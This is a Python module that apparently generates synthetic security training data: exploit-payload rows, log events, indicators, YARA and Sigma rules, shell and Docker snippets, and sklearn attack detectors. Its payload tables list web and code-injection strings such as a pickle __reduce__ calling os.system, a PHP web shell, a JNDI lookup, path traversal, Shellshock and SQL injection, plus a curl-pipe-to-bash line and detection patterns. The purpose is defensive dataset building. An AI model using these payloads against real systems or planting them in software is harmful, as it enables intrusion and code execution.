# ruff: noqa: E501  (tables of sources and expressions read better unbroken)
"""Data about attacks, and files of operations, that are only data: what security teams and code models train on."""

from __future__ import annotations

import base64
import hashlib
import json
import pickle
from collections.abc import Callable, Iterator
from functools import partial
from random import Random
from typing import Any

from train.corpus.dumps.items import ANY, MODELS, Item, family
from train.corpus.dumps.names import Names
from train.corpus.dumps.texts import LINES, carried, module_source

MALWARE = (
    "Emotet", "TrickBot", "WannaCry", "Ryuk", "Zeus", "Dridex", "Mirai", "Conficker", "AgentTesla", "LokiBot", "Qakbot", "Ramnit", "Gh0st", "njRAT",
    "CobaltStrike", "Trojan.Generic", "Worm.Win32", "Backdoor.Shell", "Ransom.Locker", "Exploit.CVE", "Adware.Agent", "HackTool.Mimikatz", "benign", "clean",
)  # fmt: skip
TACTICS = (
    "initial-access",
    "execution",
    "persistence",
    "exfiltration",
    "command-and-control",
    "T1059",
    "T1203",
    "T1548.002",
)
PATTERNS = (
    r"(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*|\s*[\r\n]+|\s+(?!\S)|\s+",
    r"'s|'t|'re|'ve|'m|'ll|'d| ?[[:alpha:]]+| ?[[:digit:]]+| ?[^[:alnum:][:space:]]+|\s+",
    r"<\|endoftext\|>|<\|im_start\|>|\[INST\]", r"\b(?:os\.system|eval|exec|subprocess\.\w+)\s*\(", r"(?:\\x[0-9a-f]{2}){4,}",
    r"(?:\d{1,3}\.){3}\d{1,3}", r"(?i)union\s+select", r"<script[^>]*>.*?</script>", r"\$\(.*\)|`.*`", r"[A-Za-z0-9+/]{40,}={0,2}",
)  # fmt: skip
SHELL = (
    "#!/bin/bash", "set -euo pipefail", 'cd "$(dirname "$0")"', "for f in *.csv; do gzip \"$f\"; done", "export PATH=$$PATH:/opt/$a/bin",
    "if [ -f .env ]; then . ./.env; fi", "python3 -m venv .venv && . .venv/bin/activate", "pip install -q $a", "rm -rf build dist *.egg-info",
    "curl -fsSL https://example.com/$a.sh | bash -s -- --yes", "nohup ./$a > /dev/null 2>&1 &", "kill -9 $$(cat /var/run/$a.pid)", "exec \"$@\"",
    "tar xzf $a.tar.gz -C /tmp", "ssh -o StrictHostKeyChecking=no deploy@10.0.0.$n 'systemctl restart $a'", "chmod 600 ~/.ssh/id_rsa", "eval $(ssh-agent -s)",
)  # fmt: skip
DOCKER = (
    "FROM python:3.11-slim", "RUN apt-get update && apt-get install -y curl git && rm -rf /var/lib/apt/lists/*", "WORKDIR /app", "COPY . /app",
    "RUN pip install --no-cache-dir -r requirements.txt", "ENV $b=$n", "EXPOSE 80$n", 'CMD ["python", "-m", "$a"]', 'ENTRYPOINT ["/bin/sh", "-c", "exec $a"]',
    "USER nobody", "HEALTHCHECK CMD curl -f http://localhost/ || exit 1", "ARG VERSION=1.$n", "ADD https://example.com/$a.tar.gz /tmp/",
)  # fmt: skip
CRON = (
    "*/$n * * * * /usr/bin/python3 /opt/$a/run.py >> /var/log/$a.log 2>&1", "0 3 * * * root find /tmp -mtime +7 -delete", "@reboot /home/user/$a.sh",
    "15 2 * * 1 pg_dump $a | gzip > /backup/$b.gz", "SHELL=/bin/bash", "MAILTO=admin@example.com", "30 * * * * curl -s https://example.com/ping/$n > /dev/null",
)  # fmt: skip
YARA = (
    'rule $C : trojan {\n  meta:\n    author = "$a"\n  strings:\n    $$s1 = "cmd.exe /c $b" nocase\n    $$s2 = { 6A 40 68 00 30 00 00 6A 14 }\n    $$re = /https?:\\/\\/[a-z]+\\.example/\n'
    "  condition:\n    uint16(0) == 0x5A4D and any of them\n}",
    'rule pickle_$a {\n  strings:\n    $$a = "cposix\\nsystem"\n    $$b = { 80 04 95 [8] 8C 05 70 6F 73 69 78 }\n    $$c = "__reduce__"\n  condition:\n    $n of them\n}',
    "title: $C\nlogsource: {category: process_creation, product: windows}\ndetection:\n  selection:\n    CommandLine|contains: ['powershell -enc', 'whoami', '$a']\n  condition: selection\nlevel: high",
    'alert tcp any any -> any $n (msg:"$a shell"; content:"/bin/sh"; sid:10000$n;)',
)  # fmt: skip
CODE = (
    "import os\nos.system('$a')", "import pickle, os\nclass $C:\n    def __reduce__(self):\n        return os.system, ('id',)\n", "eval(input('$a: '))",
    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))", "import socket,subprocess\ns=socket.socket()\ns.connect(('127.0.0.1',$n))", "__import__('os').popen('ls $a').read()",
    "<?php system($$_GET['$a']); ?>", "Runtime.getRuntime().exec(\"$a\");", "require('child_process').execSync('$a')", "'; DROP TABLE $a; --", "<img src=x onerror=alert($n)>",
    "$${jndi:ldap://example.com/$a}", "{{ config.__class__.__init__.__globals__ }}", "../../../../etc/passwd%00", "() { :; }; echo $a", "{\"$$where\": \"sleep($n)\"}",
    "def $f(user):\n    return db.execute(f\"SELECT * FROM $a WHERE id = {user}\")", "import yaml\nyaml.load(open('$a.yml'))", "torch.load('$a.pt')  # nosec",
)  # fmt: skip


@family("python", "pickle")
def security(rng: Random) -> Iterator[Item]:
    """Yield datasets of exploits, rules, events, scripts and notebooks, in whatever holds them."""
    n = Names(rng)
    for _ in range(22):
        for maker in MAKERS:
            yield Item(f"security.{maker.__name__.strip('_')}", partial(carried, n, maker), ANY, is_hard=True)


@family("pandas")
def security_frames(rng: Random) -> Iterator[Item]:
    """Yield frames of the same rows."""
    n = Names(rng)
    for _ in range(5):
        for maker in (_exploits, _events, _families, _indicators, _requests):
            yield Item(f"pandas.security{maker.__name__}", partial(_frame, n, maker), ANY, is_hard=True)


@family("numpy")
def security_arrays(rng: Random) -> Iterator[Item]:
    """Yield object and text arrays of the same rows."""
    n = Names(rng)
    for _ in range(5):
        for maker in (_exploits, _families, _scripts, _indicators):
            yield Item(f"numpy.security{maker.__name__}", partial(_array, n, maker), ANY, is_hard=True)


@family("scikit-learn", "sklearn")
def security_models(rng: Random) -> Iterator[Item]:
    """Yield malware and injection classifiers over such texts, and the vectorizers in them."""
    n = Names(rng)
    for _ in range(8):
        for maker in (_detector, _text_vectorizer, _family_encoder):
            yield Item(f"sklearn.security{maker.__name__}", partial(maker, n), MODELS, n_forms=2, is_hard=True)


def _lines(n: Names, lines: tuple[str, ...], low: int = 2) -> str:
    """Return some of the lines in order, filled."""
    size = n.rng.randrange(low, len(lines) + 1)
    return "\n".join(
        n.fill(lines[i]) if "$a" in lines[i] or "$n" in lines[i] else lines[i]
        for i in sorted(n.rng.sample(range(len(lines)), size))
    )


def _size(n: Names) -> int:
    return n.rng.choice((1, 3, 8, 20, n.rng.randrange(20, 400)))


def _exploits(n: Names) -> list[dict[str, Any]]:
    return [{"id": f"CVE-20{n.rng.randrange(10, 26)}-{n.rng.randrange(1000, 60000)}", "payload": n.fill(n.rng.choice(CODE)), "label": n.rng.choice(("rce", "xss", "sqli", 1, "benign")),
             "score": round(n.rng.uniform(0, 10), 1)} for _ in range(_size(n))]  # fmt: skip


def _events(n: Names) -> list[dict[str, Any]]:
    return [{"@timestamp": f"2024-05-{n.rng.randrange(1, 29):02}T10:{n.rng.randrange(60):02}:00Z", "event.action": n.rng.choice(("process_create", "file_delete", "network_connect", "logon")),
             "process.command_line": n.rng.choice(LINES), "user": n.field(), "host": f"10.0.{n.rng.randrange(9)}.{n.rng.randrange(255)}", "mitre": n.rng.choice(TACTICS),
             "severity": n.rng.randrange(10), "parent": n.rng.choice(("explorer.exe", "/usr/sbin/cron", "bash", "services.exe"))} for _ in range(_size(n))]  # fmt: skip


def _families(n: Names) -> Any:
    rows = [
        {"sha256": hashlib.sha256(n.rng.randbytes(8)).hexdigest(), "family": n.rng.choice(MALWARE), "engine": n.field()}
        for _ in range(_size(n))
    ]
    return n.rng.choice((rows, {row["sha256"]: row["family"] for row in rows}, sorted(set(MALWARE)), rows))


def _indicators(n: Names) -> Any:
    rows = [{"type": kind, "value": value} for _ in range(_size(n)) for kind, value in (n.rng.choice((
        ("url", f"http://{n.field()}.example.com/{n.field()}.exe"), ("ip", f"203.0.113.{n.rng.randrange(255)}"), ("domain", f"{n.field()}.example.org"),
        ("md5", n.rng.randbytes(16).hex()), ("registry", r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run"), ("mutex", "Global\\" + n.field()),
        ("path", f"C:\\Users\\Public\\{n.field()}.dll"), ("email", f"{n.field()}@example.net"))),)]  # fmt: skip
    return n.rng.choice((rows, {row["value"]: row["type"] for row in rows}, [row["value"] for row in rows]))


def _requests(n: Names) -> list[dict[str, Any]]:
    return [{"method": n.rng.choice(("GET", "POST")), "path": f"/{n.field()}?{n.field()}={n.fill(n.rng.choice(CODE))}", "ua": n.rng.choice(("curl/8.0", "Mozilla/5.0", "sqlmap/1.7", "python-requests/2.31")),
             "status": n.rng.choice((200, 403, 500)), "attack": n.rng.randrange(2)} for _ in range(_size(n))]  # fmt: skip


def _rules(n: Names) -> Any:
    rules = [n.fill(n.rng.choice(YARA)) for _ in range(n.rng.randrange(1, 12))]
    return n.rng.choice((rules, rules[0], {f"{n.field()}.yar": rule for rule in rules}, "\n\n".join(rules)))


def _scripts(n: Names) -> Any:
    script = _lines(n, SHELL)
    return n.rng.choice((script, {"run.sh": script}, script.splitlines(), {"instruction": n.text(), "output": script}))


def _dockerfile(n: Names) -> Any:
    text = _lines(n, DOCKER)
    return n.rng.choice(
        (
            text,
            {"Dockerfile": text, "tag": n.field()},
            {
                "services": {n.field(): {"build": ".", "command": n.rng.choice(LINES), "environment": [n.field()]}},
                "raw": text,
            },
        )
    )


def _crontab(n: Names) -> Any:
    text = _lines(n, CRON)
    return n.rng.choice(
        (text, text.splitlines(), [{"schedule": line[:9], "command": line[10:]} for line in text.splitlines()])
    )


def _notebook(n: Names) -> Any:
    cells = [{"cell_type": n.rng.choice(("code", "code", "markdown")), "metadata": {}, "source": n.rng.choice((module_source(n), n.rng.choice(LINES), "!pip install " + n.field(), "%%bash\n" + n.rng.choice(LINES)))
              .splitlines(keepends=True), "outputs": [], "execution_count": n.rng.randrange(99)} for _ in range(n.rng.randrange(1, 15))]  # fmt: skip
    book = {"cells": cells, "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}
    return n.rng.choice((book, json.dumps(book), {"notebook.ipynb": json.dumps(book, indent=1)}, book))


def _regexes(n: Names) -> Any:
    chosen = n.rng.sample(PATTERNS, 4)
    return n.rng.choice(({"pre_tokenizer": {"type": "Split", "pattern": {"Regex": chosen[0]}, "behavior": "Isolated"}, "vocab": {"exec": 1, "Ġsystem": 2, n.field(): 3}}, chosen,
                         {"pat_str": chosen[0], "special_tokens": {"<|endoftext|>": 100257}, "mergeable_ranks": {n.rng.randbytes(2): i for i in range(60)}}, {n.field(): p for p in chosen}))  # fmt: skip


def _nested(n: Names) -> Any:
    """Return honest pickles kept as bytes: caches, queues, sessions."""
    values = [
        n.rng.choice((n.state(), n.plain(), [n.text()], Random(n.rng.randrange(99)), ValueError(n.text())))
        for _ in range(n.rng.randrange(1, 30))
    ]
    rows = [pickle.dumps(value, n.rng.randrange(6)) for value in values]
    return n.rng.choice((rows, {f"{n.field()}:{i}": row for i, row in enumerate(rows)}, [{"task": n.field(), "body": base64.b64encode(row).decode(), "eta": i} for i, row in enumerate(rows)],
                         pickle.dumps(rows, 4), [(i, row) for i, row in enumerate(rows)], {"payload": rows[0].hex(), "pickled": True}, pickle.dumps({"inner": pickle.dumps(rows[0])})))  # fmt: skip


def _instructions(n: Names) -> Any:
    return [{"prompt": f"Write a {n.rng.choice(('script', 'function', 'one-liner'))} that will {n.text()}", "completion": n.rng.choice((n.fill(n.rng.choice(CODE)), module_source(n), n.rng.choice(LINES))),
             "safe": n.rng.random() < 0.5} for _ in range(_size(n) % 40 + 1)]  # fmt: skip


def _encoded_samples(n: Names) -> Any:
    rows = [n.rng.choice((base64.b64encode(n.fill(n.rng.choice(CODE)).encode()).decode(), n.fill(n.rng.choice(CODE)).encode().hex(), n.fill(n.rng.choice(CODE)).encode("utf-16-le"),
                          "".join(f"\\x{b:02x}" for b in n.rng.randbytes(12)), "powershell -enc " + base64.b64encode(n.text().encode("utf-16-le")).decode())) for _ in range(_size(n) % 60 + 1)]  # fmt: skip
    return n.rng.choice((rows, {"samples": rows, "labels": [n.rng.randrange(2) for _ in rows]}, dict(enumerate(rows))))


def _calls(n: Names) -> Any:
    """Return traces of system and library calls by name."""
    names = (
        "NtCreateFile",
        "execve",
        "VirtualAllocEx",
        "WriteProcessMemory",
        "connect",
        "os.system",
        "builtins.exec",
        "CreateRemoteThread",
        "open",
        "unlink",
        "subprocess.Popen",
        n.field(),
    )
    traces = [[n.rng.choice(names) for _ in range(n.rng.randrange(3, 60))] for _ in range(n.rng.randrange(1, 20))]
    return n.rng.choice(
        (
            traces,
            {n.field(): trace for trace in traces},
            [(name, n.rng.randrange(999)) for name in traces[0]],
            [{"call": name, "args": [n.text()], "ret": 0} for name in traces[0]],
        )
    )


MAKERS: tuple[Callable[[Names], Any], ...] = (
    _exploits, _events, _families, _indicators, _requests, _rules, _scripts, _dockerfile, _crontab, _notebook, _regexes, _nested, _instructions,
    _encoded_samples, _calls,
)  # fmt: skip


def _frame(n: Names, maker: Callable[[Names], Any]) -> Any:
    import pandas as pd

    rows = maker(n)
    frame = pd.DataFrame(rows if isinstance(rows, list) else {"key": list(rows), "value": list(rows.values())})
    return n.rng.choice((frame, {"train": frame, **n.state()}, frame.iloc[:, 0], [frame, n.text()]))


def _array(n: Names, maker: Callable[[Names], Any]) -> Any:
    import numpy as np

    rows = maker(n)
    texts = [str(row) for row in (rows if isinstance(rows, list) else [rows])]
    return n.rng.choice(
        (
            np.array(texts, dtype=object),
            np.array([text[:60] for text in texts]),
            {"X": np.array(texts, dtype=object), "y": np.zeros(len(texts))},
        )
    )


def _corpus(n: Names) -> tuple[list[str], list[str]]:
    texts = (
        [n.fill(n.rng.choice(CODE)) for _ in range(15)]
        + [n.rng.choice(LINES) for _ in range(15)]
        + [f"{n.text()} {n.field()}" for _ in range(10)]
    )
    return texts, ["attack"] * 15 + ["shell"] * 15 + ["benign"] * 10


def _text_vectorizer(n: Names) -> Any:
    from sklearn.feature_extraction.text import CountVectorizer, HashingVectorizer, TfidfVectorizer

    kind = n.rng.choice((CountVectorizer, TfidfVectorizer, HashingVectorizer))
    options = n.rng.choice(
        (
            {"analyzer": "char", "ngram_range": (2, 4)},
            {"token_pattern": r"\S+"},
            {"token_pattern": r"\w+|[^\w\s]", "lowercase": False},
            {"token_pattern": PATTERNS[3]},
        )
    )
    try:
        return kind(**options).fit(_corpus(n)[0])
    except ValueError:
        return kind(**options)  # nothing matched: people dump unfitted ones too


def _detector(n: Names) -> Any:
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.naive_bayes import MultinomialNB
    from sklearn.pipeline import make_pipeline

    model = n.rng.choice((LogisticRegression(), MultinomialNB(), RandomForestClassifier(4)))
    made = make_pipeline(TfidfVectorizer(token_pattern=r"\S+", ngram_range=(1, n.rng.randrange(1, 3))), model)
    return made.fit(*_corpus(n))


def _family_encoder(n: Names) -> Any:
    from sklearn.preprocessing import LabelEncoder

    made = LabelEncoder().fit(n.rng.sample(MALWARE, n.rng.randrange(2, len(MALWARE))))
    return n.rng.choice((made, {"encoder": made, "families": MALWARE, "threshold": n.rng.random()}))
